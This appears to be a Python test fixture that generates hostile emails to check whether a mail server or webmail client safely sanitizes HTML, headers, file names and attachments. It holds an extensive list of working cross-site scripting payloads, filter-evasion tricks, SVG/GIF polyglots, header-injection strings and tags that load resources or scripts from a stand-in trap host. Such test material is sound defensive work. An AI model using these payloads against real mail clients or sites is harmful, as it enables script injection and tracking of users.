"""Mails that would like to run something, fetch something, or look like a part of the report: one for each trick.

``TRAP`` stands for the address of a server that counts who comes. Whatever runs sets ``window.pwned`` on the page.
"""

from __future__ import annotations

import base64
from collections.abc import Iterator
from dataclasses import dataclass
from email.header import Header

TRAP = "http://trap.invalid"
_RUN = "top.pwned=window.pwned=1"
_SVG = (
    f'<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" onload="{_RUN}">'
    f'<script>{_RUN}</script><image xlink:href="{TRAP}/svg.png"/><foreignObject><iframe src="{TRAP}/f"/>'
    "</foreignObject></svg>"
)


@dataclass(frozen=True)
class Hostile:
    """A mail, as it is handed to the server."""

    name: str
    content: bytes
    sender: str = "mallory@evil.test"
    recipient: str = "vader@deathstar.com"


BODIES = {
    "script": f"<script>{_RUN}</script>",
    "script in a broken tag": f"<scr<script>ipt>{_RUN}</scr</script>ipt>",
    "script that is not closed": f"<script>{_RUN}",
    "script with a slash": f"<script/x>{_RUN}</script/x>",
    "script from elsewhere": f'<script src="{TRAP}/x.js"></script>',
    "module from elsewhere": f'<script type=module>import "{TRAP}/m.js"</script>',
    "image that fails": f'<img src=x onerror="{_RUN}">',
    "image from elsewhere": f'<img src="{TRAP}/pixel.gif">',
    "image set": f'<img srcset="{TRAP}/1.png 1x, {TRAP}/2.png 2x"><picture><source srcset="{TRAP}/3.png"></picture>',
    "image with handlers": f'<img src="data:image/png;base64,AAAA" onload="{_RUN}" onerror="{_RUN}">',
    "svg that loads": _SVG,
    "svg that animates": f'<svg><animate onbegin="{_RUN}" attributeName=x dur=1s></svg>',
    "svg that uses": f'<svg><use href="{TRAP}/s.svg#x"/></svg>',
    "math": f'<math><a xlink:href="javascript:{_RUN}">click</a></math>',
    "body that loads": f'<body onload="{_RUN}"><p>x</body>',
    "link to a script": f'<a href="javascript:{_RUN}">click me</a>',
    "link in disguise": f'<a href=" &#106;ava&Tab;script:{_RUN}">click me</a>',
    "link out of the frame": f'<a href="{TRAP}/top" target="_top" ping="{TRAP}/ping">click me</a>',
    "base": f'<base href="{TRAP}/" target="_parent"><a href="x">click me</a><img src="x.png">',
    "refresh": f'<meta http-equiv="refresh" content="0;url={TRAP}/refresh">',
    "policy": '<meta http-equiv="Content-Security-Policy" content="default-src *">',
    "style sheet": f'<link rel="stylesheet" href="{TRAP}/s.css">',
    "preconnect": f'<link rel="preconnect" href="{TRAP}/"><link rel="dns-prefetch" href="{TRAP}/">',
    "prefetch": f'<link rel="prefetch" href="{TRAP}/p"><link rel="preload" as="image" href="{TRAP}/l.png">',
    "icon and manifest": f'<link rel="icon" href="{TRAP}/i.ico"><link rel="manifest" href="{TRAP}/m.json">',
    "import of a style": f'<style>@import "{TRAP}/i.css"; @import url({TRAP}/j.css);</style>',
    "font": f"<style>@font-face{{font-family:x;src:url({TRAP}/f.woff)}} p{{font-family:x}}</style><p>x</p>",
    "background": f'<p style="background:url({TRAP}/b.png)">x</p><table background="{TRAP}/t.png"><tr><td>x</table>',
    "background in disguise": f'<p style="background:u\\72l({TRAP}/e)">x</p><p style="background:u/**/rl({TRAP}/c)">',
    "image set in a style": f'<p style="background:image-set(&quot;{TRAP}/is.png&quot; 1x)">x</p>',
    "list and cursor": f'<ul style="list-style:url({TRAP}/l.png)"><li>x</ul><p style="cursor:url({TRAP}/c.cur),auto">x',
    "end of a style": f'<style></style><img src=x onerror="{_RUN}"></style>',
    "frame": f'<iframe src="{TRAP}/frame"></iframe><iframe srcdoc="<script>{_RUN}</script>"></iframe>',
    "frame set": f'<frameset><frame src="{TRAP}/fs"></frameset>',
    "object and embed": f'<object data="{TRAP}/o.swf"></object><embed src="{TRAP}/e.swf">',
    "applet": f'<applet code="x" archive="{TRAP}/a.jar"></applet>',
    "form": f'<form action="{TRAP}/form"><input name=a autofocus onfocus="{_RUN}"><button>Send</button></form>',
    "form action": f'<form id=f></form><button form=f formaction="javascript:{_RUN}">x</button>',
    "media": f'<video src="{TRAP}/v.mp4" poster="{TRAP}/p.png" autoplay></video><audio src="{TRAP}/a.mp3" autoplay>',
    "details that toggle": f'<details open ontoggle="{_RUN}"><summary>x</summary>x</details>',
    "marquee": f'<marquee onstart="{_RUN}">x</marquee>',
    "template": f"<template shadowrootmode=open><script>{_RUN}</script></template>",
    "comment": f'<!--><img src=x onerror="{_RUN}">--><!--!><script>{_RUN}</script>-->',
    "cdata": f"<![CDATA[<script>{_RUN}</script>]]><![if gte mso 9]><script>{_RUN}</script><![endif]>",
    "textarea": f"<textarea></textarea><script>{_RUN}</script><title></title><script>{_RUN}</script></title>",
    "noscript": f'<noscript><p title="</noscript><img src=x onerror={_RUN}>"></noscript>',
    "attribute that ends": f"<p title='\"><script>{_RUN}</script>' style='\"><script>{_RUN}</script>'>x</p>",
    "end of the frame": f'"></iframe><script>{_RUN}</script><iframe srcdoc="',
    "entities": f"&lt;script&gt;{_RUN}&lt;/script&gt;&#60;script&#62;{_RUN}&#60;/script&#62;",
    "nul in a tag": f'<scr\0ipt>{_RUN}</scr\0ipt><img src=x o\0nerror="{_RUN}">',
    "all over the page": f'<div style="position:fixed;inset:0;background:red"><a href="{TRAP}/c">x</a></div>',
}
"""HTML bodies."""

WORDS = {
    "script": f"<script>{_RUN}</script>",
    "end of an attribute": f'"><img src=x onerror="{_RUN}">',
    "end of a title": f"</title></summary></details><script>{_RUN}</script>",
    "end of a style": f"</style><script>{_RUN}</script>",
    "end of a text": f"</pre></textarea><svg onload={_RUN}>",
    "end of a drawing": f"</text></svg><img src=x onerror={_RUN}>",
    "quotes": f"' onmouseover='{_RUN}' x='",
    "turned around": "\u202e<gpj.exe\u202c \u2066x\u2069",
    "controls": "\x1b]0;pwned\x07\x1b[2J\x08\x08",
}
"""What is a text anywhere else: a title, a name, an address."""


def mails(address: str) -> Iterator[Hostile]:
    """All of them, with the address of the trap."""
    svg = _SVG.replace(TRAP, address).encode()
    for name, body in BODIES.items():
        content = _mail("text/html; charset=utf-8", body.replace(TRAP, address), subject=f"body {name}")
        yield Hostile(f"body: {name}", content)
    for name, words in WORDS.items():
        encoded = Header(words, "utf-8", maxlinelen=60).encode(linesep="\r\n")
        yield Hostile(f"title: {name}", _mail("text/plain; charset=utf-8", words, subject=encoded))
        yield Hostile(f"file name: {name}", _with_file(words, "application/octet-stream", b"x"))
        field = words.replace("\x1b", "?").replace("\x08", "?").replace("\x07", "?")
        yield Hostile(
            f"fields: {name}",
            _mail("text/plain", "x", subject="fields", more=f"X-{name.replace(' ', '-')}: {field}\r\nFrom: {field}"),
        )
    yield Hostile("attachment: svg", _with_file("picture.svg", "image/svg+xml", svg))
    yield Hostile("attachment: svg that calls itself a png", _with_file("picture.png", "image/png", svg))
    yield Hostile("attachment: html", _with_file("page.html", "text/html", BODIES["script"].encode()))
    polyglot = b"GIF89a/*<script>" + _RUN.encode() + b"</script>*/=1;"
    yield Hostile("attachment: gif that is a script", _with_file("x.gif", "image/gif", polyglot))
    strange = f'text/html;x="\'><script>{_RUN}</script>"'
    yield Hostile("type: strange", _with_file("x", strange, b"x"))
    quoted = f'"<script>{_RUN}</script>"@evil.test'
    yield Hostile("sender: markup", _mail("text/plain", "x", subject="sender"), sender=quoted)
    yield Hostile(
        "recipient: refused markup", _mail("text/plain", "x", subject="to"), recipient=f"<b>{_RUN}</b>@x.test"
    )
    local = '"</text></svg><script>1</script>"@deathstar.com'
    yield Hostile("recipient: markup", _mail("text/plain", "x", subject="to a name"), recipient=local)
    cid = (
        b"Subject: cid\r\nContent-Type: multipart/related; boundary=b\r\n\r\n--b\r\nContent-Type: text/html\r\n\r\n"
        b'<img src="cid:a"><img src="cid:b"><img src="CID:c&quot; onerror=&quot;x">\r\n--b\r\n'
        b"Content-Type: image/png\r\nContent-ID: <a>\r\n\r\n" + svg + b"\r\n--b\r\n"
        b"Content-Type: image/svg+xml\r\nContent-ID: <b>\r\n\r\n" + svg + b"\r\n--b--\r\n"
    )
    yield Hostile("picture of the mail's own that is a program", cid)


def _mail(content_type: str, body: str, *, subject: str, more: str = "") -> bytes:
    encoded = base64.encodebytes(body.encode("utf-8")).replace(b"\n", b"\r\n")
    head = f"Subject: {subject}\r\nContent-Type: {content_type}\r\nContent-Transfer-Encoding: base64\r\n"
    return (head + (f"{more}\r\n" if more else "") + "\r\n").encode("utf-8") + encoded


def _with_file(name: str, content_type: str, content: bytes) -> bytes:
    quoted = base64.b64encode(name.encode("utf-8")).decode()
    return (
        b"Subject: a file\r\nContent-Type: multipart/mixed; boundary=b\r\n\r\n--b\r\n\r\nSee it.\r\n--b\r\n"
        + f"Content-Type: {content_type}\r\n".encode()
        + f'Content-Disposition: attachment; filename="=?utf-8?b?{quoted}?="\r\n'.encode()
        + b"Content-Transfer-Encoding: base64\r\n\r\n"
        + base64.encodebytes(content).replace(b"\n", b"\r\n")
        + b"--b--\r\n"
    )
